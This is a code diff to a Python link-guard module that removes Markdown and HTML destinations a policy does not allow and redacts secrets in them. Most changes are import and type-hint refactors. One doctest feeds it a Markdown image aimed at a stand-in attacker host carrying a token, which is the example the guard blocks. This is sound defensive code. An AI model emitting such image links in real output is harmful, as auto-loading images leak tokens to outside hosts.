@@ -4,16 +4,13 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING, NamedTuple
 
-from uriverse._engine import Identifier, as_text
-from uriverse._identifiers import IRIReference
-from uriverse._policy import Policy
-from uriverse._redaction import redacted
+from uriverse import IRIReference, Policy, redact
 
 from ._html import find as find_in_html
 from ._links import absolute
 
 if TYPE_CHECKING:
-    from uriverse.typing import LinkKind
+    from ._types import LinkKind
 
 #: The kinds of destinations that a user opens. All others load without a click.
 CLICKED = {"link", "autolink", "text"}
@@ -28,7 +25,7 @@ class Removed(NamedTuple):
         destination: the destination, in which secrets are replaced as `redact` replaces them.
 
     >>> from uriverse import Policy
-    >>> from uriverse.documents import Guard
+    >>> from uriverse_links import Guard
     >>> guard = Guard(Policy(allow=["docs.example"]))
     >>> _ = guard.feed("![x](https://evil.example/?token=a)") + guard.close()
     >>> guard.removed
@@ -51,14 +48,14 @@ class Rules:
         self,
         policy: Policy,
         embeds: Policy | None,
-        base: str | Identifier | None,
+        base: str | IRIReference | None,
         *,
         html: bool = False,
     ) -> None:
         """Keep the policies, and check the base URI."""
         self.policy = policy
         self.embeds = embeds
-        self.base = None if base is None else absolute(IRIReference(as_text(base)))
+        self.base = None if base is None else absolute(IRIReference(base))
         self.html = html
         self.removed: dict[Removed, None] = {}
 
@@ -74,7 +71,7 @@ class Rules:
         """Record a destination that is not kept, unless a policy allows it."""
         allow = self.allow_link if kind in CLICKED else self.allow_embed
         if not allow(destination):
-            self.removed[Removed(kind, redacted(destination))] = None
+            self.removed[Removed(kind, redact(destination))] = None
 
     def remove_html(self, html: str) -> None:
         """Record the destinations in HTML that is not kept."""
